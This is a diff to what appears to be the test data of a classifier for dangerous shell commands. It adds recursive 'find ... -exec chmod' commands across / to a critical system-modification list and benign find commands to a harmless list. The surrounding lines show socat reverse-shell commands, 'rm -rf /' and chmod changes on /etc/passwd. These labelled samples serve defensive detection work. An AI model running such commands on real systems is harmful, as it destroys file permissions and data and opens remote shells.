@@ -653,6 +653,14 @@ socat exec:'bash -li',pty,stderr tcp:1.1.1.1:99
 socat TCP-LISTEN:99 EXEC:/bin/sh
 """,
     ("critical", "system_modification"): r"""
+find / -type d -exec chmod 755 {} +
+find / -type f -exec chmod 644 {} \;
+find /etc -type f -exec chmod 644 {} +
+find . /etc -exec chmod 644 {} +
+find /usr -exec chmod a-x {} +
+find / -exec touch {} +
+find / -exec sh -c 'chmod 644 "$1"' _ {} \;
+find / -type d -exec chmod 755 {} + -o -type f -exec chmod 644 {} +
 chmod -R 777 /
 chmod -R 000 /
 chmod 777 /etc/passwd
@@ -1135,6 +1143,12 @@ DANGEROUS_LINES = (  # all critical
     "rm -rf /\n'",
 )
 HARMLESS = r"""
+find www -type d -exec chmod 755 {} + -o -type f -exec chmod 644 {} +
+find /var/www -type d -exec chmod 755 {} + -o -type f -exec chmod 644 {} +
+find / -exec grep -l foo {} +
+find /etc -type f -exec cat {} +
+find / -perm -4000 -exec ls -ld {} \;
+find /etc -exec cp {} /backup/ \;
 make -n install
 make -ns clean
 ansible-playbook site.yml --check --diff
